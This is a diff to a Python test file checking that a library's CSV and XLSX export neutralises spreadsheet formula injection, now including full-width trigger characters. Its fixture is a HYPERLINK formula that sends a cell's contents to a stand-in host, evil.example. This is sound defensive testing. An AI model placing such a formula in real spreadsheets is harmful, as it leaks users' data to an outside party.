@@ -21,6 +21,8 @@ from pmwidgets.io.spreadsheets import (
 
 #: every start that makes some spreadsheet run a cell as a formula
 DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
+#: the full-width forms, which some spreadsheets and input methods turn into the above
+FULL_WIDTH = ("\uff1d", "\uff0b", "\uff0d", "\uff20")
 PAYLOAD = 'HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
 
 
@@ -40,7 +42,7 @@ def test_safe_cell_quotes_only_text_that_could_run() -> None:
         assert type(safe_cell(value)) is type(value)
 
 
-@pytest.mark.parametrize("prefix", DANGEROUS, ids=repr)
+@pytest.mark.parametrize("prefix", DANGEROUS + FULL_WIDTH, ids=repr)
 def test_formula_injection_is_neutralised_in_xlsx(prefix: str) -> None:
     frame = pd.DataFrame({"title": [prefix + PAYLOAD], "weight": [-5]})
     data = frames_to_xlsx({"Objectives": frame})
@@ -55,7 +57,7 @@ def test_formula_injection_is_neutralised_in_xlsx(prefix: str) -> None:
     assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
 
 
-@pytest.mark.parametrize("prefix", DANGEROUS, ids=repr)
+@pytest.mark.parametrize("prefix", DANGEROUS + FULL_WIDTH, ids=repr)
 def test_formula_injection_is_neutralised_in_csv(prefix: str) -> None:
     frame = pd.DataFrame({prefix + "heading": [prefix + PAYLOAD], "weight": [-5]})
     text = frames_to_csv({"objectives": frame})["objectives"]
